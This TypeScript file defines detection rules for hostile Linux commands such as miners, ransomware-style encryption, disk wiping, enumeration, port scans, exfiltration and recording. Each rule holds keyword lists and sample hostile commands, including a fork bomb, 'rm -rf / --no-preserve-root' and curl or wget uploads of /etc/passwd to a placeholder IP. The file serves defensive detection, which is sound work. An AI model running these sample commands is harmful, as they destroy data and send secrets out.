/** Miners, destruction, searching a machine, gathering and sending away. */
import { behaviour } from './behaviour.ts';
import { isOutside, standsAt } from './posix.ts';
import { all, any, arg, onProcess, onText, said, type Row } from './row.ts';

export const LINUX_IMPACT: readonly Row[] = [
  behaviour('miner', ['miner', 'T1496', 'impact', 'critical', 'high'], {
    reason: 'A miner of cryptocurrency is fetched or started (a known miner, a mining pool, its options).',
    benign: ['somebody who mines on purpose'],
    hits: [
      './xmrig -o pool.example:4444 -u 43Z -p x',
      '/dev/shm/kthreadd -a rx/0 --url stratum+tcp://pool.example:10128',
      './minerd -a cryptonight -o stratum+tcp://p.example:3333',
      '/tmp/kdevtmpfsi',
      'wget https://github.com/xmrig/xmrig/releases/download/v6/x.tar.gz',
    ],
    misses: ['node miner-game.js'],
    look: onText(
      [
        'xmrig',
        'stratum+tcp',
        'stratum+ssl',
        'cryptonight',
        'kdevtmpfsi',
        'kinsing',
        'minerd ',
        '--donate-level',
        'minexmr',
        'moneroocean',
        'nanopool',
        'supportxmr',
        'nicehash',
        'ethminer',
        'phoenixminer',
        'xmr-stak',
        'cpuminer',
        'randomx',
        '-a rx/0',
        'ccminer',
        't-rex -a',
        'lolminer',
        'c3pool',
        '2miners',
        'hashvault',
        'cgminer',
        'bfgminer',
        'nbminer',
        'srbminer',
      ],
      ({ lower }, at) => !/(?:pkill|kill|killall|grep)[^;|&]{0,20}$/.test(lower.slice(Math.max(0, at - 30), at)),
    ),
  }),
  behaviour('cpu-burn', ['miner', 'T1496', 'impact', 'low', 'high'], {
    reason: 'The processor is kept busy without a result.',
    benign: ['a load test'],
    hits: ['yes > /dev/null'],
    misses: ['yes | apt-get install x'],
    look: onProcess(['yes'], ({ args }) => args.find(({ lower, role }) => role === 'target' && lower === '/dev/null')),
  }),
  behaviour('mass-encryption', ['ransom', 'T1486', 'impact', 'critical', 'medium'], {
    reason: 'Many files are encrypted and the originals removed.',
    benign: ['an own backup that encrypts files one by one'],
    hits: [
      "find / -type f -name '*.vmdk' -exec openssl enc -aes-256-cbc -pass file:/tmp/k -in {} -out {}.enc \\; -exec rm -f {} \\;",
      '/tmp/encrypt -p 20 -n -f /vmfs/volumes',
      'find /home -type f -exec gpg --batch --passphrase x -c {} \\;',
    ],
    misses: ['openssl enc -aes-256-cbc -in a -out a.enc'],
    look: onText(
      ['openssl enc', 'gpg -c', 'gpg --symmetric', 'gpg --batch --passphrase', 'encrypt', 'ccrypt', '7z a '],
      ({ lower }) =>
        (/find \S+|for \w+ in/.test(lower) &&
          /-exec|\bdo\b|xargs/.test(lower) &&
          /rm -|shred|-pass|passphrase|-mhe/.test(lower)) ||
        (lower.includes('/vmfs/volumes') && lower.includes('encrypt')),
    ),
  }),
  behaviour('virtual-machines-stopped', ['ransom', 'T1489', 'impact', 'critical', 'medium'], {
    reason: 'Virtual machines are killed or stopped by the dozen, as before their disks are encrypted.',
    benign: ['maintenance of a host'],
    hits: [
      'esxcli vm process kill --type=force --world-id=2099721',
      "vim-cmd vmsvc/getallvms | awk '{print $1}' | xargs -I{} vim-cmd vmsvc/power.off {}",
      'vim-cmd vmsvc/snapshot.removeall 12',
    ],
    misses: ['esxcli vm process list'],
    look: onText(['vm process kill', 'vmsvc/power.off', 'vmsvc/snapshot.removeall']),
  }),
  behaviour('disk-wipe', ['destroy', 'T1485', 'impact', 'critical', 'medium'], {
    reason: 'A disk or the whole file system is overwritten or removed.',
    benign: ['preparing an own disk'],
    hits: ['dd if=/dev/zero of=/dev/sda bs=1M', 'rm -rf / --no-preserve-root', ':(){ :|:& };:'],
    misses: ['dd if=debian.iso of=disk.img', 'rm -rf ./build'],
    look: onText(
      [
        'of=/dev/sd',
        'of=/dev/nvme',
        'of=/dev/vd',
        'of=/dev/hd',
        'of=/dev/xvd',
        'of=/dev/disk',
        'no-preserve-root',
        'rm -rf /*',
        ':(){',
        'shred /dev/sd',
        'wipefs -a /dev/',
      ],
      ({ lower }, _at, literal) => (literal.startsWith('of=') ? /if=\/dev\/(?:zero|u?random|null)/.test(lower) : true),
    ),
  }),

  behaviour('enumeration-script', ['enumeration', 'T1082', 'discovery', 'critical', 'medium'], {
    reason: 'A well-known script that searches a machine for ways to root is fetched or run.',
    benign: ['a penetration test'],
    hits: [
      './linpeas.sh -a',
      'curl https://host.example/linpeas.sh -o l.sh',
      './LinEnum.sh -t',
      'python3 linuxprivchecker.py',
      './lse.sh -l 1',
      './pspy64',
    ],
    misses: ['./configure'],
    look: onText(
      [
        'linpeas',
        'winpeas',
        'linenum',
        'linuxprivchecker',
        'linux-exploit-suggester',
        'linux_exploit_suggester',
        'pspy32',
        'pspy64',
        'unix-privesc-check',
        'lse.sh',
        'beroot',
        'peass-ng',
        'linux-smart-enumeration',
        'privesccheck',
        'traitor-',
        'gtfonow',
        'suid3num',
        'discovery.sh',
      ],
      ({ lower }, at) => standsAt(lower, at),
    ),
  }),
  behaviour('port-scan', ['scan', 'T1046', 'discovery', 'medium', 'medium'], {
    reason: 'Other machines are searched for open ports.',
    benign: ['an administrator’s check'],
    hits: ['nmap -sS 192.168.1.0/24 -p 80', 'masscan 10.0.0.0/8 -p445', 'fscan -h 10.0.0.0/24', 'zmap -p 80'],
    misses: ['nmap --version'],
    look: onProcess(
      [
        'nmap',
        'masscan',
        'zmap',
        'fscan',
        'rustscan',
        'naabu',
        'unicornscan',
        'for',
        'netscan',
        'advanced_port_scanner',
        'scanline',
      ],
      (process) => {
        const text = said(process);
        if (process.name === 'for') return undefined;
        return /--?version|--?help|^-h$/.test(text) ? undefined : process;
      },
    ),
  }),
  behaviour('port-scan-loop', ['scan', 'T1046', 'discovery', 'high', 'medium'], {
    reason: 'A loop of the shell tries port after port or address after address.',
    benign: ['waiting for a service'],
    hits: [
      'for port in {1..65535}; do (2>/dev/null echo >/dev/tcp/192.168.1.1/$port) && echo open; done',
      'for i in $(seq 1 254); do ping -c 1 -w 1 10.0.0.$i; done',
    ],
    misses: ['for i in 1 2 3; do curl localhost; done'],
    look: onText(['/dev/tcp/', 'ping -', 'nc -z'], ({ lower }) =>
      /(?:for|while) [^;]{0,80}(?:\{\d+\.\.\d{2,}|seq \d|1\.\.254)/.test(lower),
    ),
  }),
  behaviour('exfiltration-upload', ['exfiltration', 'T1048', 'exfiltration', 'high', 'medium'], {
    reason: 'A file, or what a command gives, is sent to an address outside.',
    benign: ['uploading an artefact to an own server'],
    hits: [
      'curl -F f=@/tmp/h http://203.0.113.9/up',
      'curl --upload-file /var/backups/d.dump https://transfer.sh/d',
      'wget --post-file=/etc/passwd http://203.0.113.9',
      'cat /etc/passwd | curl -d @- http://203.0.113.9',
      'curl -T secrets.zip ftp://203.0.113.9/',
      'wget –post-file x http://203.0.113.9',
    ],
    misses: ['curl -X POST -d \'{"a":1}\' https://api.corp.example/v1', 'curl -F file=@a.txt http://localhost/up'],
    look: onProcess(['curl', 'wget'], (process) => {
      const { args } = process;
      const url = args.find(
        ({ lower, role }) =>
          role === 'url' || /^\d{1,3}(?:\.\d{1,3}){3}/.test(lower) || /^[a-z0-9.-]+\.[a-z]{2,}\//.test(lower),
      );
      if (url === undefined || /localhost|127\.0\.0\.1|\[::1\]/.test(url.lower)) return undefined;
      const sends = args.some(({ text, lower }, index) => {
        const next = args[index + 1]?.lower ?? '';
        return (
          /^(?:[-–]{1,2}post-file|[-–]{1,2}body-file|--upload-file)/.test(lower) ||
          text === '-T' ||
          (/^(?:-F|--form|-d|--data\S*)$/.test(text) && /^["']?(?:\w*=)?["']?@/.test(next)) ||
          /^(?:-d|-F)@/.test(text) ||
          /^--(?:data|form)\S*=(?:\w+=)?@/.test(lower)
        );
      });
      return sends && isOutside(url.lower) ? url : undefined;
    }),
  }),
  behaviour('command-output-sent', ['exfiltration', 'T1041', 'exfiltration', 'high', 'medium'], {
    reason: 'What a command prints is put into a request to the outside.',
    benign: ['a health check that reports the host’s name'],
    hits: [
      'curl "http://203.0.113.9/?d=$(cat /etc/passwd | base64)"',
      'wget --header="x:$(cat /etc/passwd)" http://203.0.113.9',
      'whois -h 203.0.113.9 -p 443 "`cat /etc/passwd`"',
      'nslookup $(whoami).x.example',
    ],
    misses: ['curl -Lo app https://host.example/app-$(uname -s)-$(uname -m)'],
    look: onText(
      ['$(cat ', '`cat ', '$(whoami', '`whoami', '$(hostname', '`hostname', '$(base64 ', '`base64 ', '$(id)', '$(cat<'],
      ({ lower }, at) =>
        /(?:curl|wget|whois|nslookup|dig|host|ping|nc|invoke-webrequest) [^;|&\n]{0,200}$/.test(
          lower.slice(Math.max(0, at - 220), at),
        ),
    ),
  }),
  behaviour('file-sharing-site', ['exfiltration', 'T1567.002', 'exfiltration', 'high', 'medium'], {
    reason:
      'A place is addressed where anybody can leave or fetch files without a name (paste and file sharing, messenger bots, web hooks).',
    benign: ['sharing a file with a colleague'],
    hits: [
      'curl --upload-file d https://transfer.sh/d',
      'curl https://api.telegram.org/bot1:A/sendDocument -F document=@x',
      'curl -d @x https://webhook.site/abc',
      'curl -fsSL https://pastebin.com/raw/abc',
    ],
    misses: ['curl https://www.example.org'],
    look: onText([
      'transfer.sh',
      'api.telegram.org/bot',
      'webhook.site',
      'pastebin.com',
      'paste.rs',
      'anonfiles',
      'file.io',
      'gofile.io',
      'discord.com/api/webhooks',
      'discordapp.com/',
      'requestbin',
      'pipedream.net',
      'ngrok.io',
      'ngrok-free',
      'trycloudflare.com',
      'mega.nz',
      'bashupload',
      '0x0.st',
      'termbin',
      'temp.sh',
      'ix.io',
      'rentry.co',
      'hastebin',
      'ghostbin',
      'paste.ee',
      'oshi.at',
      'catbox.moe',
      'burpcollaborator',
      'oast.',
      'interact.sh',
      'beeceptor',
      'loca.lt',
      'serveo.net',
      'gsocket.io',
      'privatebin',
      'dpaste',
      'controlc.com',
      'tmpfiles.org',
      'ufile.io',
      'sendspace',
      'wetransfer',
      'dropmefiles',
    ]),
  }),
  behaviour('loot-file', ['exfiltration', 'T1074.001', 'collection', 'high', 'low'], {
    reason: 'What was found is gathered in a file or folder with a name for it (loot, exfil, staging).',
    benign: [],
    hits: ['find / -name id_rsa > ~/loot.txt', 'tar czf /tmp/exfil.tgz /home'],
    misses: ['ls > files.txt'],
    look: onText(['loot.', 'loot/', 'exfil', '/staging/', '-staging']),
  }),
  behaviour('cloud-copy', ['exfiltration', 'T1537', 'exfiltration', 'medium', 'medium'], {
    reason: 'Files are copied to cloud storage.',
    benign: ['a backup'],
    hits: [
      'aws s3 cp /home/dev/data s3://bucket/',
      'rclone copy /srv remote:x',
      'restic backup -r rest:http://203.0.113.9:80/x f',
      'gsutil cp a gs://b',
    ],
    misses: ['aws s3 ls'],
    look: onProcess(
      ['aws', 'rclone', 'restic', 'gsutil', 'azcopy', 'megatools', 'mega-put', 'megacmd', 's3cmd'],
      (process) => {
        const text = said(process);
        switch (process.name) {
          case 'aws':
            return /^s3 (?:cp|sync|mv) (?!s3:)/.test(text) || /--acl bucket-owner/.test(text) ? process : undefined;
          case 'rclone':
            return /^(?:copy|sync|move)/.test(text) || /(?:^| )(?:copy|sync|move) /.test(text) ? process : undefined;
          case 'restic':
            return /rest:http/.test(text) ? process : undefined;
          case 'gsutil':
          case 's3cmd':
            return /^(?:-m )?(?:cp|rsync|put) /.test(text) ? process : undefined;
          default:
            return process;
        }
      },
    ),
  }),
  behaviour('rclone-hidden', ['exfiltration', 'T1567.002', 'exfiltration', 'high', 'high'], {
    reason:
      'rclone copies with the switches that thieves use (ignore what exists, many transfers, its own configuration).',
    benign: ['a tuned backup'],
    hits: [
      'rclone.exe copy \\\\fs01\\share remote:x -q --ignore-existing --auto-confirm --multi-thread-streams 12 --transfers 12',
    ],
    misses: ['rclone sync /srv remote:backup'],
    look: onProcess(
      ['rclone'],
      all(
        arg(/^(?:copy|sync|move)$/),
        any(
          arg(/^--ignore-existing/),
          arg(/^--multi-thread-streams/),
          arg(/^--no-check-certificate/),
          arg(/^--max-age/),
          arg(/^mega:|^ftp/),
        ),
      ),
    ),
  }),
  behaviour('recorder', ['collection', 'T1123', 'collection', 'high', 'low'], {
    reason: 'The microphone, camera or screen is recorded.',
    benign: ['recording a meeting'],
    hits: [
      'sox -d recording.wav trim 0 15',
      'arecord -d 10 /tmp/a.wav',
      'screencapture -x /tmp/s.png',
      'imagesnap /tmp/i.jpg',
      'xwd -root -out /tmp/s',
      'import -window root /tmp/s.png',
    ],
    misses: ['sox a.wav b.mp3'],
    look: onProcess(
      ['sox', 'rec', 'arecord', 'screencapture', 'imagesnap', 'xwd', 'import', 'ffmpeg', 'parecord'],
      (process) => {
        const text = said(process);
        switch (process.name) {
          case 'sox':
            return text.startsWith('-d ') ? process : undefined;
          case 'xwd':
          case 'import':
            return /root/.test(text) ? process : undefined;
          case 'ffmpeg':
            return /-f (?:avfoundation|x11grab|alsa|pulse|dshow|gdigrab)/.test(text) ? process : undefined;
          case 'screencapture':
            return /(?:^| )-[a-z]*x/.test(text) ? process : undefined;
          default:
            return process;
        }
      },
    ),
  }),
];
